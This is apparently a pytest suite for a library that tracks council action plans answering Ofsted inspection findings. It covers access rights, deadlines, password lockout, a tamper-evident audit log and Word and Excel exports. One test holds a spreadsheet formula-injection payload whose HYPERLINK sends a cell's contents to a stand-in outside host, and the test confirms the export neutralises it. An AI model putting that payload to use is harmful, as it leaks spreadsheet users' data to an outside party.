"""Action plans in the library, on SQLite and PostgreSQL: made from an inspection's areas for improvement, kept
through re-reads, private to their council, deadlines in working days, conflicts refused, and an audit log the
database will not let anyone rewrite."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from oversight.errors import NotFoundError, UsageError
from oversight.ingest import ingest
from oversight.plans import audit
from oversight.plans.accounts import LockedError, LoginError, create_user, log_in
from oversight.plans.plans import (
    ConflictError,
    ForbiddenError,
    add_action,
    add_progress,
    add_review,
    create_plan,
    load_plan,
    publish,
    set_received,
    update_action,
)
from oversight.store import Database, open_database, tables
from tests.corpus_builder import build_corpus

PASSWORD = "correct horse battery staple"


@pytest.fixture
def database(tmp_path: Path, db_url: str) -> Database:
    build_corpus(tmp_path / "corpus")
    database = open_database(db_url)
    ingest(database, [tmp_path / "corpus"], workers=1)
    return database


def _gateshead_2023(database: Database) -> str:
    with database.engine.connect() as connection:
        return connection.scalar(select(tables.events.c.key).where(
            tables.events.c.authority_code == "390", tables.events.c.start_date == "2023-10-30"))


def _people(database: Database):  # type: ignore[no-untyped-def]
    editor = create_user(database, "admin", "editor", PASSWORD, councils={"390": "editor"})
    reader = create_user(database, "admin", "adviser", PASSWORD, councils={"390": "reader"})
    stranger = create_user(database, "admin", "elsewhere", PASSWORD, councils={"394": "editor"})
    return editor, reader, stranger


def test_a_plan_answers_each_area_for_improvement_in_ofsteds_words(database: Database) -> None:
    editor, reader, stranger = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    plan = load_plan(database, reader, plan_id, today=date(2024, 1, 10))
    assert [i["text"][:40] for i in plan["items"]] == [
        "The timeliness of assessments for childr", "The quality of written plans, so that pa",
        "Management oversight of placements with "]
    assert all(i["document_id"] and i["field"].endswith(f"areas_for_improvement[{n}]")
               for n, i in enumerate(plan["items"]))
    with database.engine.connect() as connection:
        document = connection.execute(select(tables.documents.c.extraction).where(
            tables.documents.c.id == plan["items"][0]["document_id"])).scalar_one()
    assert any(e["field"] == plan["items"][0]["field"] for e in document["evidence"]), "the words' passage"
    assert plan["deadline"]["estimated"] and plan["deadline"]["due"] == "2024-03-27"
    with pytest.raises(ForbiddenError):
        add_action(database, reader, plan["items"][0]["id"], "Weekly audit of out-of-hours referrals")
    with pytest.raises(NotFoundError):
        load_plan(database, stranger, plan_id)
    with pytest.raises(NotFoundError):
        load_plan(database, None, plan_id)
    with pytest.raises(UsageError, match="already has a plan"):
        create_plan(database, editor, _gateshead_2023(database))
    with pytest.raises(ForbiddenError):
        publish(database, reader, plan_id)
    publish(database, editor, plan_id)
    assert load_plan(database, None, plan_id)["published"], "a published plan is part of the public record"
    assert load_plan(database, stranger, plan_id)["items"]


def test_actions_progress_reviews_deadlines_and_conflicts(database: Database) -> None:
    editor, reader, _ = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    item = load_plan(database, editor, plan_id)["items"][0]
    with pytest.raises(UsageError, match="before the inspection"):
        add_action(database, editor, item["id"], "Too early", due="2023-01-01")
    action = add_action(database, editor, item["id"], "Weekly audit of out-of-hours referrals", "Sam Lead",
                        "Head of front door", "2024-02-01", "on_track")
    set_received(database, editor, plan_id, "2023-12-08")
    add_progress(database, editor, action, "First audit done: 40 referrals read.", "2024-01-15",
                 document_id=item["document_id"], field=item["field"])
    add_review(database, editor, plan_id, "2024-01-20", "Improvement board", "Keep the audit weekly",
               "Chair, DCS, two elected members")
    version = update_action(database, editor, action, 1, status="at_risk")
    with pytest.raises(ConflictError, match="someone else saved"):
        update_action(database, editor, action, 1, status="done")  # opened before the change above
    plan = load_plan(database, reader, plan_id, today=date(2024, 2, 5))
    mine = plan["items"][0]["actions"][0]
    assert mine["status"] == "at_risk" and mine["version"] == version and mine["overdue"]
    assert plan["overdue"] == 1 and mine["updates"][0]["text"].startswith("First audit")
    assert plan["deadline"] == {"due": "2024-03-20", "estimated": False, "working_days_left": 32,
                                "basis": "70 working days from receipt of the final report on 2023-12-08"}
    assert [r["body"] for r in plan["reviews"]] == ["Improvement board"]


def test_a_plan_survives_reading_everything_again(database: Database, tmp_path: Path) -> None:
    from oversight.analysis.resolve import rebuild_events

    editor, _, _ = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    before = [(i["item_key"], i["text"]) for i in load_plan(database, editor, plan_id)["items"]]
    with database.engine.begin() as connection:  # every event and item is made again, with new ids
        connection.execute(text("UPDATE events SET id = id + 1000 WHERE 1 = 0"))
    rebuild_events(database)
    (tmp_path / "more").mkdir()
    build_corpus(tmp_path / "more", copies=2)
    ingest(database, [tmp_path / "more"], workers=1)
    plan = load_plan(database, editor, plan_id)
    assert [(i["item_key"], i["text"]) for i in plan["items"]] == before
    assert plan["event"]["start_date"] == "2023-10-30"


def test_nothing_to_answer_is_said_not_an_empty_plan(database: Database) -> None:
    editor, _, _ = _people(database)
    with database.engine.connect() as connection:
        mentioned = connection.scalar(select(tables.events.c.key).where(
            tables.events.c.authority_code == "390", tables.events.c.start_date == "2016"))
    with pytest.raises(UsageError, match="names no areas for improvement"):
        create_plan(database, editor, mentioned)
    with pytest.raises(NotFoundError):
        create_plan(database, editor, "no-such-key")


def test_passwords_logins_and_lockout(database: Database) -> None:
    create_user(database, "admin", "editor", PASSWORD, councils={"390": "editor"})
    with database.engine.connect() as connection:
        stored = connection.scalar(select(tables.users.c.password_hash))
    assert stored.startswith("$argon2id$") and PASSWORD not in stored
    assert log_in(database, "editor", PASSWORD).can_edit("390")
    with pytest.raises(LoginError) as nobody:
        log_in(database, "nobody", PASSWORD)
    with pytest.raises(LoginError) as wrong:
        log_in(database, "editor", "not the password at all")
    assert nobody.value.message == wrong.value.message, "the answer does not say which names exist"
    now = datetime(2025, 1, 1, 9, 0)
    for _ in range(3):
        with pytest.raises(LoginError):
            log_in(database, "editor", "wrong password here", now)
    with pytest.raises(LockedError, match="locked for 15 minutes"):
        log_in(database, "editor", "wrong password here", now)
    with pytest.raises(LockedError):
        log_in(database, "editor", PASSWORD, now + timedelta(minutes=14))
    assert log_in(database, "editor", PASSWORD, now + timedelta(minutes=16)).username == "editor"
    with pytest.raises(UsageError, match="at least 12"):
        create_user(database, "admin", "short", "tooshort")


def test_the_audit_log_cannot_be_rewritten_and_shows_where_it_was(database: Database) -> None:
    editor, _, _ = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    entries = audit.entries(database, plan_id)
    assert [(e["actor"], e["action"]) for e in entries] == [("editor", "create")]
    assert audit.broken_links(database) == []
    for statement in ("UPDATE audit_log SET actor = 'someone else'", "DELETE FROM audit_log"):
        with pytest.raises(DBAPIError, match="append-only"):
            with database.engine.begin() as connection:
                connection.execute(text(statement))
    with database.engine.begin() as connection:  # someone with the database's own keys drops the guard
        if database.dialect == "sqlite":
            connection.execute(text("DROP TRIGGER audit_log_no_update"))
        else:
            connection.execute(text("DROP TRIGGER audit_log_append_only ON audit_log"))
        connection.execute(text("UPDATE audit_log SET actor = 'someone else' WHERE action = 'create' "
                                "AND entity = 'plan'"))
    assert any("changed after it was written" in problem for problem in audit.broken_links(database))


def test_the_command_line_makes_a_plan_and_writes_it_for_the_board(tmp_path: Path) -> None:
    import json
    import subprocess
    import sys

    import openpyxl
    from docx import Document

    build_corpus(tmp_path / "corpus")
    db = str(tmp_path / "o.db")
    ingest(open_database(db), [tmp_path / "corpus"], workers=1)

    def run(*arguments: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "oversight.cli.main", *arguments, "--db", db], input=stdin,
                              capture_output=True, text=True, timeout=120)

    assert run("users", "add", "editor", "--editor", "Gateshead", "--password-stdin", stdin=PASSWORD + "\n"
               ).returncode == 0
    assert run("users", "add", "adviser", "--reader", "Gateshead", "--password-stdin", stdin=PASSWORD + "\n"
               ).returncode == 0
    assert "editor of Gateshead" in run("users", "list").stdout
    made = run("plan", "create", "Gateshead", "--as", "editor")
    assert made.returncode == 0 and "began on 2023-10-30: 3 items" in made.stdout, made.stderr
    plan_id = made.stdout.split()[1]
    shown = json.loads(run("plan", "show", plan_id, "--as", "adviser", "--json").stdout)
    item = shown["items"][0]["id"]
    assert run("plan", "action", str(item), "Weekly audit", "--owner", "Sam Lead", "--due", "2024-02-01",
               "--as", "editor").returncode == 0
    refused = run("plan", "action", str(item), "Not mine to add", "--as", "adviser")
    assert refused.returncode == 2 and "may not change" in refused.stderr and "Traceback" not in refused.stderr
    paper = tmp_path / "plan.docx"
    assert run("plan", "export", plan_id, "--format", "docx", "-o", str(paper), "--as", "adviser").returncode == 0
    table = Document(str(paper)).tables[0]
    assert [c.text for c in table.rows[0].cells][:4] == ["Item", "Ofsted's words", "Page", "Action"]
    assert table.rows[1].cells[1].text.startswith("The timeliness of assessments") and \
        table.rows[1].cells[3].text == "Weekly audit" and table.rows[1].cells[2].text == "1"
    book = tmp_path / "plan.xlsx"
    assert run("plan", "export", plan_id, "--format", "xlsx", "-o", str(book), "--as", "editor").returncode == 0
    sheet = openpyxl.load_workbook(book)["Plan"]
    assert any(row[3] == "Weekly audit" for row in sheet.iter_rows(values_only=True))
    assert run("plan", "show", plan_id, "--as", "nobody").returncode == 2
    action_id = json.loads(run("plan", "show", plan_id, "--as", "editor", "--json").stdout)["items"][0][
        "actions"][0]["id"]
    assert run("plan", "progress", str(action_id), "First audit done", "--on", "2024-01-15", "--cite",
               f"{shown['items'][0]['document_id']}:{shown['items'][0]['field']}", "--as", "editor").returncode == 0
    assert run("plan", "review", plan_id, "--on", "2024-01-20", "--body", "Improvement board", "--decided",
               "Keep going", "--as", "editor").returncode == 0
    due = run("plan", "received", plan_id, "2023-12-08", "--as", "editor")
    assert due.returncode == 0 and "due to Ofsted 2024-03-20" in due.stdout
    assert "public" in run("plan", "publish", plan_id, "--as", "editor").stdout
    final = json.loads(run("plan", "show", plan_id, "--as", "adviser", "--json").stdout)
    assert final["published"] and final["reviews"][0]["body"] == "Improvement board"
    assert final["items"][0]["actions"][0]["updates"][0]["field"] == shown["items"][0]["field"]
    assert not final["deadline"]["estimated"]
    earlier = run("plan", "create", "Gateshead", "--inspection", "2019-03-04", "--as", "editor")
    assert earlier.returncode == 0, earlier.stderr
    said = run("plan", "followups", earlier.stdout.split()[1], "--as", "adviser")
    assert said.returncode == 0 and "NAMED AGAIN: full inspection of 2023-10-30" in said.stdout
    sent = run("plan", "sent", plan_id, "2024-03-18", "--as", "editor")
    assert sent.returncode == 0 and "2 working days before the deadline" in sent.stdout, sent.stderr
    assert run("users", "password", "adviser", "--password-stdin", stdin="a different passphrase\n").returncode == 0
    assert log_in(open_database(db), "adviser", "a different passphrase").username == "adviser"
    assert run("users", "remove-council", "adviser", "Gateshead").returncode == 0
    assert run("plan", "show", earlier.stdout.split()[1], "--as", "adviser").returncode == 2  # not the adviser's now
    again = run("users", "remove-council", "adviser", "Gateshead")
    assert again.returncode == 2 and "no rights over that council" in again.stderr


def test_what_later_visits_said_is_suggested_with_its_reason_then_decided(database: Database) -> None:
    from oversight.plans.followups import decide, later_findings

    editor, reader, _ = _people(database)
    with database.engine.connect() as connection:
        earlier = connection.scalar(select(tables.events.c.key).where(
            tables.events.c.authority_code == "390", tables.events.c.start_date == "2019-03-04"))
    plan_id = create_plan(database, editor, earlier)
    found = later_findings(database, reader, plan_id)
    first = [s for s in found if s["item_text"].startswith("The timeliness of assessments")]
    assert first and first[0]["named_again"] and first[0]["later_event"]["start_date"] == "2023-10-30"
    assert first[0]["similarity"] == 100 and "wording 100% alike" in first[0]["why"]
    assert first[0]["decision"] is None
    with pytest.raises(ForbiddenError):
        decide(database, reader, first[0]["item_id"], first[0]["later_item_key"], "confirmed")
    decide(database, editor, first[0]["item_id"], first[0]["later_item_key"], "confirmed")
    decide(database, editor, first[0]["item_id"], first[0]["later_item_key"], "rejected")  # a second thought
    again = [s for s in later_findings(database, reader, plan_id) if s["item_id"] == first[0]["item_id"]
             and s["later_item_key"] == first[0]["later_item_key"]]
    assert [s["decision"] for s in again] == ["rejected"]
    assert [e["action"] for e in audit.entries(database, plan_id)][-2:] == ["confirmed", "rejected"]
    assert later_findings(database, reader, create_plan(database, editor, _gateshead_2023(database))) == []


def test_words_typed_into_a_plan_stay_words_in_its_workbook(database: Database) -> None:
    import io

    from openpyxl import load_workbook

    from oversight.plans.exports import plan_xlsx

    editor, _, _ = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    item = load_plan(database, editor, plan_id)["items"][0]["id"]
    formula = '=HYPERLINK("https://elsewhere.example/?"&B4,"Open the evidence")'
    add_action(database, editor, item, formula, "-1 day late", "@someone", None, "on_track")
    sheet = load_workbook(io.BytesIO(plan_xlsx(load_plan(database, editor, plan_id), "Gateshead")))["Plan"]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[formula] == "s" and cells["-1 day late, @someone"] == "s"


def test_control_characters_never_reach_a_plan_or_break_its_exports(database: Database) -> None:
    from oversight.plans.exports import plan_docx, plan_xlsx

    editor, _, _ = _people(database)
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    item = load_plan(database, editor, plan_id)["items"][0]["id"]
    action = add_action(database, editor, item, "Audit\x01 files\x0b monthly", None, None, None, "on_track")
    add_progress(database, editor, action, "ok\x01 done", "2024-02-01")
    plan = load_plan(database, editor, plan_id)
    assert plan["items"][0]["actions"][0]["description"] == "Audit files monthly"
    assert plan["items"][0]["actions"][0]["updates"][0]["text"] == "ok done"
    with database.engine.begin() as connection:  # text kept before such characters were taken out
        connection.execute(tables.plan_updates.update().values(text="older\x02 note"))
    plan = load_plan(database, editor, plan_id)
    assert plan_docx(plan, "Gateshead") and plan_xlsx(plan, "Gateshead")


def test_only_what_later_visits_said_can_be_confirmed(database: Database) -> None:
    from oversight.plans.followups import decide

    editor, _, _ = _people(database)
    with database.engine.connect() as connection:
        earlier = connection.scalar(select(tables.events.c.key).where(
            tables.events.c.authority_code == "390", tables.events.c.start_date == "2019-03-04"))
    plan_id = create_plan(database, editor, _gateshead_2023(database))
    item = load_plan(database, editor, plan_id)["items"][0]["id"]
    own = load_plan(database, editor, plan_id)["items"][0]["item_key"]
    for key in (own, f"{earlier}.1", "looked-at-1", f"{earlier}.looked-at-\u00b2", "nothing.9"):
        with pytest.raises(NotFoundError):
            decide(database, editor, item, key, "confirmed")


@pytest.mark.corpus
def test_south_tynesides_third_monitoring_visit_speaks_to_its_2023_items(corpus: Path, tmp_path: Path) -> None:
    """On real documents: the 2023 report (inadequate) and the council's account of the third monitoring visit,
    which looked at recording of decisions, enough regulated homes, and scrutiny and challenge."""
    import shutil

    from oversight.plans.followups import later_findings

    report, later = corpus / "reports" / "80557" / "2023-05-10.pdf", corpus.parent / "seeds" / "000_1d5d499e23c9bc4d.txt"
    if not later.is_file():
        pytest.skip(f"the seed {later} is not there")
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(report, folder / report.name)
    shutil.copy(later, folder / later.name)
    (folder / "manifest.csv").write_text("path,urn,local_authority,title,published_date\n"
                                         f"{report.name},80557,South Tyneside,x,2023-05-10\n")
    database = open_database(str(tmp_path / "o.db"))
    ingest(database, [folder], workers=1)
    editor = create_user(database, "admin", "editor", PASSWORD, councils={"393": "editor"})
    with database.engine.connect() as connection:
        inspection = connection.scalar(select(tables.events.c.key).where(
            tables.events.c.authority_code == "393", tables.events.c.kind == "full_inspection",
            tables.events.c.start_date == "2022-12-05"))
    plan_id = create_plan(database, editor, inspection)
    plan = load_plan(database, editor, plan_id)
    assert len(plan["items"]) == 7 and plan["deadline"]["estimated"]
    said = later_findings(database, editor, plan_id)
    numbers = {item["id"]: item["number"] for item in plan["items"]}
    assert {(numbers[s["item_id"]], s["how"], s["later_event"]["visit_number"]) for s in said} == {
        (2, "looked at", 3), (6, "looked at", 3)}
    assert all(not s["named_again"] for s in said)
